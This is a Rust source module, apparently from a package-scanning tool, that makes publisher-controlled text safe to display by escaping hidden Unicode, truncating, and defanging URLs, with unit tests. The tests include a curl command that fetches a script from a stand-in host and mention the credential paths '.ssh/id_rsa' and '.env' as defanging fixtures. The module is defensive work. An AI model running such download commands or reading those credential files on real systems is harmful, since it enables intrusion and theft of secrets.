//! Makes text that a publisher controls fit for a message: short, on one line, and without a character that
//! moves, hides or colours what stands beside it in a terminal, a page or a log.

/// Longest name, version requirement or field in a message, in characters.
pub(crate) const NAME: usize = 100;

/// Longest sentence or excerpt.
pub(crate) const EXCERPT: usize = 200;

/// Longest path. Paths are what a reader copies, so they are cut only where no honest one is that long.
pub(crate) const PATH: usize = 1024;

/// `text` in at most about `max` characters, with what cannot be seen as `\u{…}`.
pub(crate) fn printable(text: &str, max: usize) -> String {
    let mut shown = String::new();
    let mut left = max;
    for character in text.chars() {
        let width = if is_deceptive(character) { character.escape_unicode().len() } else { 1 };
        if width > left {
            shown.push('…');
            break;
        }
        left -= width;
        if width == 1 {
            shown.push(character);
        } else {
            shown.extend(character.escape_unicode());
        }
    }
    shown
}

/// `text` in backticks, with its own backticks escaped so that none ends the quotation.
pub(crate) fn quoted(text: &str, max: usize) -> String {
    format!("`{}`", printable(text, max).replace('`', "\\u{60}"))
}

/// `text` with addresses that nothing makes clickable: `hxxp://`, `example[.]com`.
///
/// URLs, and hosts and IP addresses with a port or path behind them; a bare `build.rs` stays as it is.
pub(crate) fn defanged(text: &str) -> String {
    let is_end = |it: char| {
        it.is_whitespace() || matches!(it, '"' | '\'' | '`' | '<' | '>' | '|' | ';' | '(' | ')' | ',')
    };
    let mut shown = String::new();
    for piece in text.split_inclusive(is_end) {
        let (word, end) = match piece.char_indices().last() {
            Some((at, last)) if is_end(last) => piece.split_at(at),
            _ => (piece, ""),
        };
        shown.push_str(&defanged_word(word));
        shown.push_str(end);
    }
    shown
}

fn defanged_word(word: &str) -> String {
    if let Some((scheme, rest)) = word.split_once("://") {
        let at = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let (host, path) = rest.split_at(at);
        let scheme = match scheme.to_ascii_lowercase().strip_suffix("http") {
            _ if scheme.to_ascii_lowercase().ends_with("https") => {
                format!("{}hxxps", &scheme[..scheme.len() - 5])
            }
            Some(_) => format!("{}hxxp", &scheme[..scheme.len() - 4]),
            None => scheme.to_owned(),
        };
        return format!("{scheme}://{}{path}", host.replace('.', "[.]"));
    }
    let at = word.find('/').unwrap_or(word.len());
    let (host, path) = word.split_at(at);
    let (name, port) = host.rsplit_once(':').unwrap_or((host, ""));
    let is_name = name.contains('.')
        && !name.starts_with('.')
        && !name.contains("..")
        && name.chars().all(|it| it.is_ascii_alphanumeric() || matches!(it, '.' | '-' | '_' | '{' | '}'));
    let is_number =
        is_name && name.chars().all(|it| it.is_ascii_digit() || it == '.') && name.matches('.').count() == 3;
    let has_port = !port.is_empty() && port.chars().all(|it| it.is_ascii_digit());
    let ends_as_name =
        name.rsplit('.').next().is_some_and(|last| last.starts_with(|it: char| it.is_ascii_alphabetic()));
    let is_long = ends_as_name && (name.matches('.').count() >= 2 || !path.is_empty());
    let is_host = is_number || (is_name && (has_port || is_long));
    if is_host { format!("{}{}", host.replace('.', "[.]"), path) } else { word.to_owned() }
}

/// `1 file`, `2 files`.
pub(crate) fn count(number: usize, singular: &str, plural: &str) -> String {
    if number == 1 { format!("1 {singular}") } else { format!("{number} {plural}") }
}

/// Controls, and what Unicode calls format characters, separators other than the space, variation selectors and
/// fillers that are drawn as nothing.
fn is_deceptive(character: char) -> bool {
    character.is_control()
        || (character.is_whitespace() && character != ' ')
        || matches!(character,
            '\u{AD}' | '\u{34F}' | '\u{600}'..='\u{605}' | '\u{61C}' | '\u{6DD}' | '\u{70F}'
            | '\u{890}'..='\u{891}' | '\u{8E2}' | '\u{115F}'..='\u{1160}' | '\u{17B4}'..='\u{17B5}'
            | '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}' | '\u{2800}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}' | '\u{FEFF}'
            | '\u{FFA0}' | '\u{FFF0}'..='\u{FFFB}' | '\u{110BD}' | '\u{110CD}' | '\u{13430}'..='\u{1343F}'
            | '\u{1BCA0}'..='\u{1BCA3}' | '\u{1D173}'..='\u{1D17A}' | '\u{E0000}'..='\u{E0FFF}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hidden_characters_are_spelled_out() {
        assert_eq!(
            printable("a\u{202E}b\u{1b}[31m\n\u{E0041}", 100),
            "a\\u{202e}b\\u{1b}[31m\\u{a}\\u{e0041}"
        );
        assert_eq!(printable("größe 日本語", 100), "größe 日本語");
    }

    #[test]
    fn long_text_is_cut_and_says_so() {
        assert_eq!(printable("abcdef", 3), "abc…");
        assert_eq!(printable("abc", 3), "abc");
        assert_eq!(printable("ab\u{202E}", 3), "ab…");
        assert!(printable(&"\u{202E}".repeat(1_000_000), 100).len() <= 103);
    }

    #[test]
    fn a_quotation_ends_where_it_should() {
        assert_eq!(quoted("a` [x](y) `b", 100), "`a\\u{60} [x](y) \\u{60}b`");
    }

    #[test]
    fn addresses_are_defanged() {
        for (text, expected) in [
            ("curl -s http://c.example.invalid/i.sh -o x", "curl -s hxxp://c[.]example[.]invalid/i.sh -o x"),
            ("127.0.0.1:9", "127[.]0[.]0[.]1:9"),
            ("HTTPS://a.b/", "hxxps://a[.]b/"),
            ("paste.example.invalid", "paste[.]example[.]invalid"),
            (".ssh/id_rsa build.rs {}/.env 1.2.3", ".ssh/id_rsa build.rs {}/.env 1.2.3"),
        ] {
            assert_eq!(defanged(text), expected);
        }
    }

    #[test]
    fn counts_agree_with_their_nouns() {
        assert_eq!(count(1, "file", "files"), "1 file");
        assert_eq!(count(0, "file", "files"), "0 files");
    }
}
